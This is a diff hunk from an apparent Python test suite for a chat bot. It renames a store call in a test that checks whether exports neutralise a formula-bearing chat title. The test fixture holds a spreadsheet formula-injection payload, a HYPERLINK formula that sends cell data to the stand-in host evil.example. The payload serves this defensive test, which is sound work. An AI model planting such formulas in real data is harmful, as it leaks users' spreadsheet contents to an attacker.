@@ -229,7 +229,7 @@ async def test_export_neutralises_a_formula_title_and_keeps_ids(
     server: BotApiStandIn, sqlite_url: str
 ) -> None:
     async with running_bot(admin_settings(server, sqlite_url)) as svc:
-        await svc.store.subscribe(
+        await svc.store.chats.subscribe(
             -100_777,
             type="supergroup",
             title='=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
